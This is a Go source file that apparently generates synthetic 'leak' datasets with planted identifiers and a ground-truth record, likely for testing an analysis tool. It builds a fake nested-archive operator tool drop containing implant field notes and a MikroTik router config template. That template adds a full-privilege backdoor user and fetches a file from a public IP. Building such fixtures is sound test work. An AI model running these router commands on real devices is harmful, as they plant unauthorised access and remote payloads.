package synth

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"fmt"
	"slices"
	"strings"
)

// builder assembles a Leak and its Truth.
type builder struct {
	g    *gen
	leak *Leak
	seen map[plantKey]bool
}

// plantKey identifies a planted identifier for de-duplication: the first
// form written wins.
type plantKey struct{ file, member, kind, value string }

func keyOf(p Planted) plantKey { return plantKey{p.File, p.Member, p.Kind, p.Value} }

func newBuilder(g *gen) *builder {
	b := &builder{g: g, leak: &Leak{}, seen: map[plantKey]bool{}}
	for _, s := range g.staff {
		b.leak.Staff = append(b.leak.Staff, s.Name)
	}
	return b
}

// add places a file in the leak and records its planted identifiers.
func (b *builder) add(path string, data []byte, ids plants) {
	b.leak.Files = append(b.leak.Files, File{Path: path, Data: data})
	b.plant(path, "", ids)
}

// plant records identifiers found in file (and member, inside a container).
func (b *builder) plant(file, member string, ids plants) {
	for _, p := range ids {
		p.File, p.Member = file, member
		if k := keyOf(p); !b.seen[k] {
			b.seen[k] = true
			b.leak.Truth.Identifiers = append(b.leak.Truth.Identifiers, p)
		}
	}
}

// finish fills in the product and CVE lists.
func (b *builder) finish() *Leak {
	b.leak.Truth.Products, b.leak.Truth.CVEs = b.g.truthLists()
	slices.SortStableFunc(b.leak.Truth.Identifiers, func(x, y Planted) int {
		return strings.Compare(x.File, y.File)
	})
	return b.leak
}

// member is a file inside an archive with the identifiers planted in it.
type member struct {
	path string
	data []byte
	ids  plants
	sub  []member // members of data, when data is itself an archive
}

// flatten lists the identifiers of m and its nested members with their
// "!"-joined member paths.
func (m member) flatten(prefix string, out func(member string, ids plants)) {
	p := m.path
	if prefix != "" {
		p = prefix + "!" + m.path
	}
	if len(m.ids) > 0 {
		out(p, m.ids)
	}
	for _, s := range m.sub {
		s.flatten(p, out)
	}
}

func targzBytes(members []member) ([]byte, error) {
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	zw.Name = "stage2.tar"
	zw.ModTime = zipTime
	tw := tar.NewWriter(zw)
	for _, m := range members {
		h := &tar.Header{Typeflag: tar.TypeReg, Name: m.path, Mode: 0o644, Size: int64(len(m.data)), ModTime: zipTime, Uname: "ops", Gname: "ops", Format: tar.FormatUSTAR}
		if err := tw.WriteHeader(h); err != nil {
			return nil, fmt.Errorf("add %s to tar: %w", m.path, err)
		}
		if _, err := tw.Write(m.data); err != nil {
			return nil, fmt.Errorf("write %s to tar: %w", m.path, err)
		}
	}
	if err := tw.Close(); err != nil {
		return nil, fmt.Errorf("finish tar: %w", err)
	}
	if err := zw.Close(); err != nil {
		return nil, fmt.Errorf("finish gzip: %w", err)
	}
	return b.Bytes(), nil
}

func zipMembers(members []member) ([]byte, error) {
	files := make([]File, len(members))
	for i, m := range members {
		files[i] = File{Path: m.path, Data: m.data}
	}
	return zipBytes(files)
}

// textOf renders a doc as a plain text file.
func textOf(d *doc) []byte { return []byte(strings.Join(docLines(d), "\n") + "\n") }

// nestedArchive builds a zip that holds a tar.gz that holds a text file and
// another zip: the shape of a tool drop copied off an operator's laptop.
func (g *gen) nestedArchive() (member, error) {
	var rsc, hosts plants
	router := familyOf("MikroTik RouterOS")
	rscText := strings.Join([]string{
		"# " + g.family(router) + " staging config for " + g.pick(router.Devices),
		"/ip address add address=" + g.ipv4As(&rsc, ScopePrivate, "plain") + "/24 interface=ether1",
		"/ip route add gateway=" + g.ipv4As(&rsc, ScopePrivate, "plain"),
		"/ipv6 address add address=" + g.ipv6As(&rsc, ScopePrivate, "plain") + "/64 interface=bridge",
		"/user add name=support group=full " + g.password(&rsc),
		"/tool fetch url=" + g.ipv4As(&rsc, ScopePublic, "url") + " dst-path=flash/upd.npk",
		"/interface ethernet set ether2 mac-address=" + g.macColon(&rsc),
		"",
	}, "\n")
	var hostLines []string
	for range 6 {
		hostLines = append(hostLines, g.ipv4(&hosts)+"\t"+g.mac(&hosts)+"\t"+g.pick(router.Devices))
	}
	hostsText := strings.Join(hostLines, "\n") + "\n"
	inner := []member{{path: "router.rsc", data: []byte(rscText), ids: rsc}, {path: "hosts.txt", data: []byte(hostsText), ids: hosts}}
	innerZip, err := zipMembers(inner)
	if err != nil {
		return member{}, err
	}

	notes := g.newDoc("Field notes: " + g.codename())
	notes.Crumbs = nil
	pr := g.product()
	notes.para(g.paragraph(notes, pr, "the implant"))
	notes.para(g.paragraph(notes, pr, "the implant"))
	g.configCode(notes)
	tgz := []member{
		{path: "ops/notes.txt", data: textOf(notes), ids: notes.ids},
		{path: "ops/configs.zip", data: innerZip, sub: inner},
	}
	tgzData, err := targzBytes(tgz)
	if err != nil {
		return member{}, err
	}

	var readme plants
	readmeText := "Tool drop for " + g.name(&readme) + ". Unpack on the jump host " + g.ipv4As(&readme, ScopePublic, "port") + " only.\n"
	outer := []member{
		{path: "README.txt", data: []byte(readmeText), ids: readme},
		{path: "stage2.tar.gz", data: tgzData, sub: tgz},
	}
	outerZip, err := zipMembers(outer)
	if err != nil {
		return member{}, err
	}
	return member{path: "exfil/tools_drop.zip", data: outerZip, sub: outer}, nil
}

// familyOf returns the product family named f, which must exist.
func familyOf(f string) *product {
	for i := range productList {
		if productList[i].Family == f {
			return &productList[i]
		}
	}
	panic("synth: unknown product family " + f)
}
